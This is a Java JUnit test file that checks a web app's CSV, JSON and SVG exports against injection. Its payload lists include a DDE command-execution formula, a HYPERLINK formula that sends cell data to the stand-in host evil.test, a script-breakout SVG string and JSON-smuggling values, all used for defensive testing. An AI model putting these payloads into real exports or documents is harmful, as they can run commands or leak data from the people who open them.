package org.parley.app.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.parley.core.entry.Entry;
import org.xml.sax.InputSource;

/** Sections 5 and 7 of docs/security.md: downloads, and patterns. */
class ExportAttackTest extends Besieged {
    private static final List<String> FORMULAS =
            List.of(
                    "=cmd|' /C calc'!A0",
                    "+1+1",
                    "-1+1",
                    "@SUM(1,1)",
                    "\t=1+1",
                    "\r=1+1",
                    "\n=1+1",
                    " =1+1",
                    "\uff1d1+1",
                    "\uff0b1",
                    "\uff0d1",
                    "\uff201",
                    "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
                    ";=1+1",
                    ",=1+1",
                    "\"=1+1",
                    "\"\",=1+1");

    private String entry;

    @BeforeEach
    void choose() {
        entry = fort.served.entries().get(0).id();
    }

    /**
     * Everything that can be named is named so; and an article is read of that title and outlet.
     */
    private void name(String name, int seen) throws Exception {
        intruder.rule(
                "/entries/" + entry + "/rule",
                "kind",
                "change",
                "party",
                name,
                "target",
                name,
                "issue",
                name,
                "reason",
                name,
                "seen",
                seen);
        Multipart form =
                new Multipart()
                        .field("text", "Sorran demands salt " + seen + ", said Maric.")
                        .field("title", name)
                        .field("outlet", name);
        ReadTest.done(fort.served, intruder.hand(form));
    }

    /** Cells of CSV as RFC 4180 has it. */
    private static List<List<String>> cells(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c != '"') {
                    cell.append(c);
                } else if (i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else {
                    quoted = false;
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                if (c == '\n') {
                    rows.add(row);
                    row = new ArrayList<>();
                }
            } else if (c != '\r') {
                cell.append(c);
            }
        }
        assertFalse(quoted, csv);
        return rows;
    }

    @Test
    void a129_formulas_areGuarded() throws Exception {
        int seen = 0;
        for (String formula : FORMULAS) {
            name(formula, seen++);
            for (String page : intruder.downloads("csv")) {
                for (List<String> row : cells(intruder.page(page))) {
                    for (String cell : row) {
                        boolean number = cell.matches("-?\\d+(\\.\\d+)?");
                        assertTrue(
                                number
                                        || !cell.matches(
                                                "(?s)[=+@\t\r\n\uff1d\uff0b\uff0d\uff20-].*"),
                                () -> page + ": " + cell);
                    }
                }
            }
        }
    }

    @Test
    void a130_oddNames_moveNoCells() throws Exception {
        int seen = 0;
        for (String name :
                List.of("a\"b", "a,b", "a\r\nb", "a\u2028b", "a;b", "\"", "a\"\"b,\"c")) {
            name(name, seen++);
            for (String page : intruder.downloads("csv")) {
                List<List<String>> rows = cells(intruder.page(page));
                assertFalse(rows.isEmpty(), page);
                for (List<String> row : rows) {
                    assertEquals(rows.get(0).size(), row.size(), () -> page + row);
                }
            }
        }
    }

    @Test
    void a131_otherFormats_areNotOffered() throws Exception {
        for (String page : List.of("/board", "/deadlines", "/timeline", "/entries/x", "/sources")) {
            for (String ending : List.of("ics", "xlsx", "md", "html")) {
                int status = intruder.get(page + "." + ending).statusCode();
                assertEquals(404, status, page + "." + ending);
            }
        }
    }

    @Test
    void a132_json_isJson() throws Exception {
        ObjectMapper strict =
                new ObjectMapper().enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS);
        int seen = 0;
        for (String name :
                List.of("a\"b", "a\\b", "NaN", "\",\"evil\":\"x", "\ud83d\ude00", "a\u2028b")) {
            name(name, seen++);
            for (String page : intruder.downloads("json")) {
                String json = intruder.page(page);
                assertFalse(strict.readTree(json).isMissingNode(), page);
                assertFalse(strict.readTree(json).findParents("evil").size() > 0, page);
            }
            assertTrue(
                    strict.readTree(intruder.page("/board.json"))
                            .findValuesAsText("party")
                            .contains(name),
                    name);
        }
    }

    @Test
    void a109_pictures_areXmlWithoutScripts() throws Exception {
        List<String> names = new ArrayList<>(Markup.PAYLOADS);
        names.addAll(
                List.of(
                        "]]><script>window.__x=1</script>",
                        "&x;",
                        "a\ufffeb\uffff",
                        "\ud83d\ude00"));
        int seen = 0;
        for (String name : names) {
            name(name, seen++);
            List<String> pictures = intruder.downloads("svg");
            assertFalse(pictures.isEmpty());
            for (String page : pictures) {
                HttpResponse<String> answer = intruder.get(page);
                assertEquals(200, answer.statusCode(), page);
                DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
                factory.setNamespaceAware(true);
                var all =
                        factory.newDocumentBuilder()
                                .parse(new InputSource(new StringReader(answer.body())))
                                .getElementsByTagName("*");
                for (int i = 0; i < all.getLength(); i++) {
                    String element = all.item(i).getNodeName();
                    assertFalse(
                            element.matches("(?i)script|foreignobject|image|animate|set|use"),
                            element);
                    var attributes = all.item(i).getAttributes();
                    for (int k = 0; k < attributes.getLength(); k++) {
                        String attribute = attributes.item(k).getNodeName();
                        assertFalse(attribute.matches("(?i)on.*|style"), attribute);
                        assertFalse(attribute.endsWith("href"), attribute);
                    }
                }
                assertTrue(
                        answer.headers()
                                .firstValue("Content-Security-Policy")
                                .orElse("")
                                .contains("default-src 'none'"));
            }
        }
    }

    @Test
    void a106_namesOfPrototypes_areNames() throws Exception {
        int seen = 0;
        for (String name :
                List.of(
                        "__proto__",
                        "constructor",
                        "toString",
                        "hasOwnProperty",
                        "undefined",
                        "null")) {
            name(name, seen++);
            assertTrue(
                    new ObjectMapper()
                            .readTree(intruder.page("/board.json"))
                            .findValuesAsText("party")
                            .contains(name));
            assertTrue(intruder.page("/board").contains(name));
        }
    }

    @Test
    void a111_namesThatLookAlike_areNotJoined() throws Exception {
        fort.served.read(
                "Zora",
                "2031-05-04",
                "A demands b, said Union\nA demands c, said Un\u0456on\nA demands d, said Unions");
        intruder.rule("/names/join", "a", "Union", "b", "Unions", "seen", 0);
        assertEquals(
                List.of("Union", "Unions"),
                fort.served.ledger().names().rulings().get(0).names().stream().sorted().toList());
        String rule = "/entries/" + entry + "/rule";
        intruder.rule(rule, "kind", "change", "party", "Union\u200b", "seen", 0);
        assertTrue(
                fort.served.entries().stream()
                        .map(Entry::party)
                        .anyMatch(p -> p != null && p.name().equals("Union")));
        intruder.rule(rule, "kind", "change", "party", "\u00a0Union\u00ad ", "seen", 1);
        assertTrue(
                fort.served.entries().stream()
                        .map(Entry::party)
                        .anyMatch(p -> p != null && p.name().equals("Union")));
    }

    @Test
    void a128_wildcards_areLetters() throws Exception {
        List<Entry> entries = fort.served.entries();
        String first = "/entries/" + entries.get(0).id() + "/rule";
        String second = "/entries/" + entries.get(1).id() + "/rule";
        intruder.rule(first, "kind", "change", "issue", "wages", "seen", 0);
        intruder.rule(second, "kind", "change", "issue", "w_ges", "seen", 0);
        intruder.rule("/issues/rename", "issue", "w_ges", "name", "%", "seen", 0);
        assertEquals(
                List.of("%", "wages"),
                fort.served.entries().stream().map(Entry::issue).sorted().toList());
        intruder.rule("/issues/rename", "issue", "%", "name", "pay", "seen", 1);
        assertEquals(
                List.of("pay", "wages"),
                fort.served.entries().stream().map(Entry::issue).sorted().toList());
        assertFalse(intruder.page("/board.json?party=%25").contains("wages"));
        assertFalse(intruder.page("/board.json?issue=w_ges").contains("wages"));
    }

    @Test
    void a143_patterns_areLetters() throws Exception {
        String issue = "corridor";
        int seen = 0;
        for (String name :
                List.of("(", "[", "*", ".*", "(a+)+$", "\\Q\\E\\E", "$1", "\\1", "$0 $1 \\\\")) {
            intruder.rule("/issues/rename", "issue", issue, "name", name, "seen", seen++);
            issue = name;
            assertEquals(issue, fort.served.entries().get(0).issue());
            intruder.refused("/names/join", "a", name, "b", "b" + name, "seen", 0);
            intruder.page("/search?q=" + Fort.encoded(name));
            intruder.page("/timeline?issue=" + Fort.encoded(name));
        }
    }
}
